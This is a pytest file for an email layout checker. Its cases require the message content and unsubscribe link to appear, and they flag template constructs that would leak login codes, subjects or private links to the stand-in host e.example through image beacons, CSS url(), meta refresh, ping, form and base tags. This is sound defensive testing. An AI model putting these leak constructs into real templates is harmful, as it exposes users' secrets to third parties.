"""What a layout must show, and must not do with what a message says, such as a login code."""

import pytest

from notifications.content import layout_checks, templates
from tests.support.tables import each_case

STOP = "<p>{% if unsubscribe_url %}<a href='{{ unsubscribe_url }}'>Stop</a>{% endif %}</p>"


def codes(body: str, *, head: str = "") -> set[str]:
    html = f"<!doctype html><html lang='en'><head>{head}</head><body>{body}</body></html>"
    return {fault.code for fault in layout_checks.find_faults(html)}


def test_a_layout_like_the_built_in_one_is_one() -> None:
    html = templates.layout_source(None).replace("{% echo styles | safe %}", "{{ styles }}")
    assert layout_checks.find_faults(html.replace(" | safe", "")) == []


@each_case(
    "body, head",
    [
        ("{{ content }}" + STOP, ""),
        ("<div class='card'>\n{{ content }}\n</div>" + STOP, "<meta charset='utf-8'>"),
        ("{% if heading %}<h1>{{ heading }}</h1>{% endif %}{{ content }}" + STOP, ""),
        ("{{ content }}" + STOP, "<title>{{ subject }}</title>"),
        ("<p>{{ preheader }}</p>{{ content }}<p>{{ unsubscribe_url }}</p>", ""),
        ("{% if image_url %}<img src='{{ image_url }}' alt=''>{% endif %}{{ content }}" + STOP, ""),
        ("<img src='{{ brand.logo_url }}' alt=''>{{ content }}" + STOP, "{{ styles }}"),
        ("{{ content }}{% if deep_link %}<p><a class='b' href=\"{{ deep_link }}\" "
         "style='color: #fff'>Open</a></p><p>{{ deep_link }}</p>{% endif %}" + STOP, ""),
        ("{{ content }}<a\n href = '{{- unsubscribe_url -}}'>Stop</a>", ""),
        ("{% if language == 'en' %}<p>Hello</p>{% endif %}{{ content }}" + STOP, ""),
        ("{{ content }}" + STOP, "<meta http-equiv='Content-Type' content='text/html'>"),
        ("{{ content }}" + STOP, "<meta content='IE=edge' http-equiv=X-UA-Compatible>"),
        ("{{ content }}" + STOP, "<style>.card { color: #374151; }</style>"),
        ("<!--[if mso]><table><tr><td><![endif]-->{{ content }}"
         "<!--[if mso]></td></tr></table><![endif]-->" + STOP, ""),
    ],
)  # fmt: skip
def test_layout_without_a_fault(body: str, head: str) -> None:
    assert codes(body, head=head) == set()


@each_case(
    "content",
    [
        "",
        "<!-- {{ content }} -->",
        "{% comment %}{{ content }}{% endcomment %}",
        "{% raw %}{{ content }}{% endraw %}",
        "{% if image_url %}{{ content }}{% endif %}",
        "{% unless image_url %}{{ content }}{% endunless %}",
        "{% if language == 'en' %}{{ content }}{% endif %}",
        "{% unless brand.logo_url != '' %}{{ content }}{% endunless %}",
        "{% unless brand.footer != '' %}{{ content }}{% endunless %}",
        "{% if heading %}{% else %}{{ content }}{% endif %}",
        "<div title='{{ content }}'></div>",
        "<style>{{ content }}</style>",
    ],
)
def test_text_of_a_message_is_shown_whatever_it_has(content: str) -> None:
    assert "required" in codes(content + STOP)


@each_case(
    "link",
    [
        "",
        "<!-- {{ unsubscribe_url }} -->",
        "<img alt='' src='{{ unsubscribe_url }}'>",
        "{% if deep_link %}<a href='{{ unsubscribe_url }}'>Stop</a>{% endif %}",
    ],
)
def test_link_to_unsubscribe_is_shown_whatever_a_message_has(link: str) -> None:
    assert "required" in codes("{{ content }}<p>" + link + "</p>")


@each_case("name", ["subject", "heading", "preheader", "content"])
@each_case(
    "body",
    [
        "<img alt='' src='https://e.example/{}'>",
        "<a href='https://e.example/?q={}'>Read</a>",
        "<p>https://e.example/{}</p>",
        "<p>{}.example.com</p>",
        "<div style='background: url(https://e.example/{})'></div>",
        "<div background='https://e.example/{}'></div>",
        "{{% assign x = {name} | url_encode %}}<img alt='' src='https://e.example/{{{{ x }}}}'>",
        "{{% capture x %}}{}{{% endcapture %}}<img alt='' src='https://e.example/{{{{ x }}}}'>",
        "{{% if {name} contains '1' %}}<img alt='' src='https://e.example/1'>{{% endif %}}",
        "{{% for x in {name} %}}<img alt='' src='https://e.example/{{{{ x }}}}'>{{% endfor %}}",
        "<!--[if mso]><img alt='' src='https://e.example/{}'><![endif]-->",
        "<script src='https://e.example/{}'></script>",
    ],
)
def test_what_a_message_says_is_in_no_request(name: str, body: str) -> None:
    shown = body.format("{{ " + name + " }}", name=name)
    assert "sensitive_in_url" in codes(f"<div>{shown}</div>{{{{ content }}}}{STOP}")


@each_case("name", ["deep_link", "unsubscribe_url"])
@each_case(
    "body",
    [
        "<img alt='' src='https://e.example/?u={{{{ {name} | url_encode }}}}'>",
        "<img alt='' src='{}'>",
        "<a href='https://e.example/?u={}'>Open</a>",
        "<a href='{}?from=e.example'>Open</a>",
        "<a href='{{{{ {name} | replace: 'shop', 'e' }}}}'>Open</a>",
        "<a title='{}' href='https://e.example/'>Open</a>",
        "<a href=\"https://e.example/? href='{}'\">Open</a>",
        "<a href='https://e.example/' ping='{}'>Open</a>",
        "<a title=' href=' x='https://e.example/?{}'>Open</a>",
        "<area href='{}'>",
        "<div style='background: url({})'></div>",
        "<style>p {{ background: url(\"https://e.example/?<a href='{}'\"); }}</style>",
        "<form action='{}'></form>",
        "{{% assign x = {name} %}}<img alt='' src='https://e.example/{{{{ x }}}}'>",
        "{{% if {name} contains 'a' %}}<img alt='' src='https://e.example/a'>{{% endif %}}",
    ],
)
def test_link_of_a_message_is_sent_to_nobody_else(name: str, body: str) -> None:
    shown = body.format("{{ " + name + " }}", name=name)
    assert "sensitive_in_url" in codes(f"<div>{shown}</div>{{{{ content }}}}{STOP}")


def test_fault_of_a_link_says_where_it_may_stand() -> None:
    html = f"<html><body>{{{{ content }}}}\n<img src='{{{{ deep_link }}}}'>{STOP}</body></html>"
    (fault,) = layout_checks.find_faults(html)
    assert (fault.line, "the whole of <a href>" in str(fault)) == (2, True)


@each_case(
    "head",
    [
        "<meta http-equiv='refresh' content='0; url=https://e.example/{{ subject }}'>",
        "<meta http-equiv='refresh' content='0; url=https://e.example/'>",
        "<META content='0' HTTP-EQUIV = refresh>",
        "<meta http-equiv='re&#102;resh' content='0; url=https://e.example/'>",
        "<meta http-equiv='content-type' http-equiv='refresh' content='0'>",
        "<style>p { background: url(https://e.example/{{ preheader }}); }</style>",
        "<style>@import 'https://e.example/a.css';</style>",
        "<style>@font-face { font-family: a; src: url(https://e.example/a); }</style>",
        "<style>a[href*='1'] { background: url(https://e.example/1); }</style>",
        "<link rel='stylesheet' href='https://e.example/{{ subject }}'>",
        "<base href='https://e.example/{{ subject }}/'>",
    ],
)
def test_head_of_a_layout_requests_nothing_by_what_a_message_says(head: str) -> None:
    assert codes("{{ content }}" + STOP, head=head) == {"sensitive_in_url"}


def test_fault_has_its_line() -> None:
    html = (
        f"<html>\n<body>\n{{{{ content }}}}\n<a href='/{{{{ subject }}}}'>a</a>{STOP}</body></html>"
    )
    (fault,) = layout_checks.find_faults(html)
    assert fault.line == 4


@pytest.mark.parametrize("attribute", ["background='https://e.example/{}'", "title='{}'"])
def test_attributes_of_the_document_are_checked(attribute: str) -> None:
    tag = f"<body {attribute.format('{{ subject }}')}>"
    html = f"<html>{tag}{{{{ content }}}}{STOP}</body></html>"
    assert {fault.code for fault in layout_checks.find_faults(html)} == {"sensitive_in_url"}


HEAVY = "".join(f":not(.a):not(.b) p:not(.k{n}) {{ color: red; }}" for n in range(1_500))


@each_case(
    "css, texts, expected",
    [
        (".card { color: #374151; }", {"a": "<p>Text</p>" * 500}, None),
        ("p { margin: 0; }", {"broken": "<div>" * 300}, None),
        ("", {"a": "<p>Text</p>"}, None),
        (HEAVY, {}, ""),
        (".a > .b p { margin: 0; }" * 400, {"a": "<p class='c'>Text</p>" * 9}, None),
    ],
)
def test_style_sheet_is_tried_within_a_limit_of_time(
    css: str, texts: dict[str, str], expected: str | None
) -> None:
    found = layout_checks.find_costly(f"<html><style>{css}</style></html>", texts)
    assert (found is None) == (expected is None), found
